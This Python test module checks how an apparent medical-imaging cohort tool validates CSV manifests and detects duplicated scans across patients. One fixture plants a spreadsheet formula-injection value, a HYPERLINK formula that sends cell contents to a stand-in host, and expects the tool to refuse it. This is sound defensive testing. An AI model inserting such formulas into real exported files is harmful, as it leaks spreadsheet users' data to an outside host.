"""Cases 52 and 53: the manifest, and one image under two names."""

import codecs
import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from catalogue.framework import COLUMNS, Row, study_text
from catalogue.running import Run, run
from catalogue.sound import SECRET, T2, nifti, write_pair

BAD_INPUT = 3
ROWS = 100_000


@dataclass(frozen=True)
class CommandCase:
    """A case of a whole cohort: commands, and what the last of them must do.

    Attributes:
        number, letter, title: as of ``framework.Case``.
        do: whether it is refused, or named and used.
        make: writes ``cohort.csv`` and what it names into a folder.
        says: regular expressions that what is said must hold.
        exit_code: of the last command.
        commands: words after ``cystgrid``.
        nothing_written: what must not be there afterwards.
        lines: on stderr, of what is refused.
    """

    number: int
    letter: str
    title: str
    do: str
    make: Callable[[Path], None]
    says: tuple[str, ...]
    exit_code: int = BAD_INPUT
    commands: tuple[str, ...] = ("prepare cohort.csv -o prepared --study study.toml --workers 0",)
    nothing_written: str = "prepared"
    lines: int = 1
    real: bool = False
    page: bool = True

    @property
    def name(self) -> str:
        """Number and letter."""
        return f"{self.number}{self.letter}"


@dataclass(frozen=True)
class SeenCommand:
    """What the last command did, and where."""

    run: Run
    folder: Path


def meet_command(one: CommandCase, folder: Path) -> SeenCommand:
    """Make a case in an empty folder and run its commands; all but the last must succeed."""
    (folder / "study.toml").write_text(study_text() + FOLDS, "utf-8")
    one.make(folder)
    for command in one.commands:
        done = run(command.split(), folder)
        if command != one.commands[-1] and done.exit_code != 0:
            break
    return SeenCommand(done, folder)


FOLDS = """
[splits]
folds = 3
[models]
names = ["resnet18"]
weights = "none"
[training]
epochs = 1
"""


def rows_of(folder: Path, *patients: str) -> list[Row]:
    """Sound rows; every patient has files of its own under its own name, all alike."""
    rows = []
    for number, patient in enumerate(patients):
        pair = write_pair(folder / f"{SECRET} {number}")
        label = ("low", "high", "normal")[number % 3]
        relative = {name: path.removeprefix(f"{folder}/") for name, path in pair.items()}
        rows.append({"patient": patient, "label": label, **relative})
    return rows


def manifest(rows: list[Row], delimiter: str = ",", header: bool = True) -> str:
    """The text of a manifest."""
    stream = io.StringIO()
    names = tuple(dict.fromkeys((*COLUMNS, *(name for row in rows for name in row))))
    writer = csv.DictWriter(stream, names, delimiter=delimiter, lineterminator="\n")
    if header:
        writer.writeheader()
    writer.writerows(rows)
    return stream.getvalue()


def write(folder: Path, text: str, encoding: str = "utf-8") -> None:
    (folder / "cohort.csv").write_text(text, encoding)


def duplicate(folder: Path) -> None:
    write(folder, manifest(rows_of(folder, "p1", "p2", "p1")))


def missing_file(folder: Path) -> None:
    one, two = rows_of(folder, "p1", "p2")
    write(folder, manifest([one, {**two, "t2": f"{SECRET}/gone.nii"}]))


def unknown_label(folder: Path) -> None:
    one, two = rows_of(folder, "p1", "p2")
    write(folder, manifest([one, {**two, "label": "lwo"}]))


def no_header(folder: Path) -> None:
    write(folder, manifest(rows_of(folder, "p1", "p2"), header=False))


def nobody(folder: Path) -> None:
    write(folder, manifest([]))


def byte_order_mark(folder: Path) -> None:
    write(folder, manifest(rows_of(folder, "p1", "p2")), "utf-8-sig")
    assert (folder / "cohort.csv").read_bytes().startswith(codecs.BOM_UTF8)


def semicolons(folder: Path) -> None:
    write(folder, manifest(rows_of(folder, "p1", "p2"), delimiter=";"))


def formula(folder: Path) -> None:
    one, two = rows_of(folder, "p1", '=HYPERLINK("http://x.example/"&A1)')
    write(folder, manifest([one, two]))


def many_rows(folder: Path) -> None:
    """Three faults among 100,000 rows that share their files."""
    row = rows_of(folder, "p")[0]
    rows = [{**row, "patient": f"p{number}"} for number in range(ROWS)]
    rows[9]["label"] = "lwo"
    rows[49_998]["patient"] = "p0"
    rows[99_999]["t1"] = "gone.nii"
    write(folder, manifest(rows))


def all_at_once(folder: Path) -> None:
    """Five faults of five kinds."""
    one, two, three, four = rows_of(folder, "p1", "p2", "p1", "")
    write(
        folder,
        manifest(
            [
                one,
                {**two, "label": "lwo", "t1": f"{SECRET}/gone.nii"},
                three,
                {**four, "roi": "1,2,3"},
            ]
        ),
    )


def _other_scans(folder: Path, rows: list[Row], noise: float = 60.0) -> None:
    """Give each patient a T2 of its own, seen by its texture."""
    for number, row in enumerate(rows):
        rng = np.random.default_rng(number)
        moved = np.roll(T2.voxels, number - 2, axis=0) * (1 + 0.1 * number)
        voxels = np.rint(moved + rng.normal(0, noise, T2.shape)).astype(np.float32)
        (folder / row["t2"]).write_bytes(nifti(T2.with_voxels(voxels)))
        (folder / row["t1"]).write_bytes(nifti(T2.with_voxels(voxels[::-1])))


def _copied(folder: Path, noise: int, **more: str) -> None:
    """Ten patients; p10's scans are p1's, exactly or but for noise of one step."""
    rows = rows_of(folder, *(f"p{number}" for number in range(1, 11)))
    _other_scans(folder, rows)
    for name in ("t1", "t2"):
        content = (folder / rows[0][name]).read_bytes()
        voxels = np.frombuffer(content[352:], "<i2")
        step = np.random.default_rng(9).integers(0, noise + 1, voxels.size)
        copied = (voxels + step).astype("<i2").tobytes()
        (folder / rows[9][name]).write_bytes(content[:352] + copied)
    for row in (rows[0], rows[9]):
        row.update(more)
    write(folder, manifest(rows))


COPIES = (r"\bp1\b", r"\bp10\b")
TWICE = "line 4.*line 2|2, 4"
PREPARE = "prepare cohort.csv -o prepared --study study.toml --workers 0 --quiet"
CHECK = "cohort check cohort.csv --study study.toml"
CROSSVAL = "crossval prepared -o run --study study.toml --workers 0"

COHORT_CASES = [
    CommandCase(52, "a", "one patient in two rows", "refuse", duplicate, (TWICE, "p1")),
    CommandCase(52, "b", "a file that is not there", "refuse", missing_file, ("line 3", "t2")),
    CommandCase(
        52, "c", "an unknown label", "refuse", unknown_label, ("line 3", "label", "lwo", "low")
    ),
    CommandCase(52, "d", "no header", "refuse", no_header, ("header", "patient,label,t1,t2,roi")),
    CommandCase(
        52, "e", "Excel's byte-order mark", "read", byte_order_mark, (), 0, nothing_written=""
    ),
    CommandCase(52, "f", "semicolons", "refuse", semicolons, ("header", ";")),
    CommandCase(52, "g", "a formula in a cell", "refuse", formula, ("line 3", "patient")),
    CommandCase(
        52,
        "h",
        "100,000 rows with three faults",
        "refuse",
        many_rows,
        ("line 11", "lwo", "line 50000.*line 2|2, 50000", "line 100001", "t1"),
    ),
    CommandCase(
        52,
        "i",
        "five faults of five kinds",
        "refuse",
        all_at_once,
        ("line 3.*lwo", "line 3.*t1", TWICE, "line 5.*patient", "line 5.*roi"),
    ),
    CommandCase(
        52,
        "j",
        "the same, asked with `cohort check`",
        "refuse",
        all_at_once,
        ("line 3.*lwo", "line 3.*t1", TWICE, "line 5.*patient", "line 5.*roi"),
        commands=(CHECK,),
    ),
    CommandCase(52, "k", "a header and no patient", "refuse", nobody, ("header", "no patient")),
    CommandCase(
        53,
        "a",
        "the same image file under two patients",
        "flag",
        lambda folder: _copied(folder, 0),
        (*COPIES, "same|identical|duplicate"),
        0,
        (CHECK,),
    ),
    CommandCase(
        53,
        "b",
        "a near-copy of an image under two patients",
        "flag",
        lambda folder: _copied(folder, 1),
        (*COPIES, "near"),
        0,
        (CHECK,),
    ),
    CommandCase(
        53,
        "c",
        "the same image file under two patients that would be split apart",
        "refuse",
        lambda folder: _copied(folder, 0),
        (*COPIES, "group"),
        BAD_INPUT,
        (PREPARE, CROSSVAL),
        nothing_written="run/predictions.csv",
    ),
    CommandCase(
        53,
        "d",
        "a near-copy under two patients that would be split apart",
        "refuse",
        lambda folder: _copied(folder, 1),
        (*COPIES, "group"),
        BAD_INPUT,
        (PREPARE, CROSSVAL),
        nothing_written="run/predictions.csv",
    ),
    CommandCase(
        53,
        "e",
        "the same image file under two patients of one `group`",
        "read",
        lambda folder: _copied(folder, 0, group="one person"),
        (),
        0,
        (CHECK,),
    ),
]
